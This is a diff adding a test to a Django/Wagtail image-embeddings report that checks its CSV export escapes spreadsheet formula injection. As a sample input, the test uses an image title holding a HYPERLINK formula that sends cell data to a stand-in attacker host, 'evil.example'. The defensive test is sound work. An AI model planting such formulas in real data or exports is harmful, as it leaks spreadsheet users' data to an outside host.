@@ -4,6 +4,7 @@ embeddings" report, each within what the editor may see."""
 from __future__ import annotations
 
 import base64
+import csv
 import io
 import os
 from pathlib import Path
@@ -414,3 +415,19 @@ def test_report_needs_the_change_image_permission(client, django_user_model, mak
     home = client.get(reverse("wagtailadmin_home")).content.decode()
     assert reverse("semantic_images_wagtail_reports:image_embeddings") not in home
     assert 'id="image-embeddings-section"' not in home
+
+
+def test_report_csv_keeps_titles_and_reasons_from_running_as_spreadsheet_formulas(
+    superuser_client, make_image, sample_paths
+):
+    """An editor's title (or an uploaded file's name in the reason) that begins with = + - @ would
+    run as a formula when the CSV is opened in a spreadsheet: the export writes it as text."""
+    image = make_image(sample_paths["astronaut"], '=HYPERLINK("http://evil.example/?"&A1,"open")')
+    os.remove(image.file.path)
+    assert list(embed_pks(ImageVectors, [image.pk]).failed) == [image.pk]
+    export = superuser_client.get(reverse("semantic_images_wagtail_reports:image_embeddings"), {"export": "csv"})
+    assert export.status_code == 200
+    text = b"".join(export.streaming_content if export.streaming else [export.content]).decode()
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert row["Title"] == "'" + image.title
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
